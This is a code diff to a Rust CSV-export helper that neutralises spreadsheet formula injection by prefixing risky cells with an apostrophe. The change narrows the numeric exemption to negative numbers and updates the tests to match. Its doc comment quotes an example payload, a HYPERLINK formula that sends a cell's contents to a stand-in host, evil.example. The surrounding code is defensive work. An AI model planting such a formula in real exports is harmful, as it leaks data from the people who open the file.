@@ -7,15 +7,18 @@
 //! `+`, `-` or `@` as a formula, and tab or CR can hide such a start; an employee who titles a
 //! posting `=HYPERLINK("https://evil.example/?"&A2, "Click")` would run it in HR's
 //! spreadsheet. Every such cell is written with a leading `'`, which the spreadsheet shows as
-//! text (and hides). Plain numbers (`-12`, `+3.5`) stay as they are: they are not formulas, and
-//! a spreadsheet must still read them as numbers. Nothing else is changed. This is for CSV
+//! text (and hides). Plain negative numbers (`-12`, `-3.5`) stay as they are: they are not
+//! formulas, and a spreadsheet must still read them as numbers (a `+` always gets the
+//! apostrophe: no value Trellis writes starts with one). Nothing else is changed. This is for CSV
 //! meant for people; CSV fed to a program (PostgreSQL's COPY) must not use it.
 
 use std::borrow::Cow;
 
-/// Whether `s` is a plain decimal number: optional sign, digits, optional fraction.
-fn is_plain_number(s: &str) -> bool {
-    let unsigned = s.strip_prefix(['-', '+']).unwrap_or(s);
+/// Whether `s` is a plain negative decimal number: `-`, digits, optional fraction.
+fn is_negative_number(s: &str) -> bool {
+    let Some(unsigned) = s.strip_prefix('-') else {
+        return false;
+    };
     let (whole, fraction) = match unsigned.split_once('.') {
         Some((w, f)) => (w, Some(f)),
         None => (unsigned, None),
@@ -26,7 +29,8 @@ fn is_plain_number(s: &str) -> bool {
 
 /// The cell as a spreadsheet should see it: prefixed with `'` when it would start a formula.
 pub fn neutralise(cell: &str) -> Cow<'_, str> {
-    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) && !is_plain_number(cell);
+    let risky =
+        cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) && !is_negative_number(cell);
     if risky {
         Cow::Owned(format!("'{cell}"))
     } else {
@@ -121,6 +125,7 @@ mod tests {
             "\r=1+1",
             "-",
             "+",
+            "+3",
         ] {
             assert_eq!(neutralise(hostile), format!("'{hostile}"), "{hostile:?}");
         }
@@ -131,7 +136,6 @@ mod tests {
         for plain in [
             "-12",
             "-0.5",
-            "+3",
             "42",
             "3.25",
             "Ada",
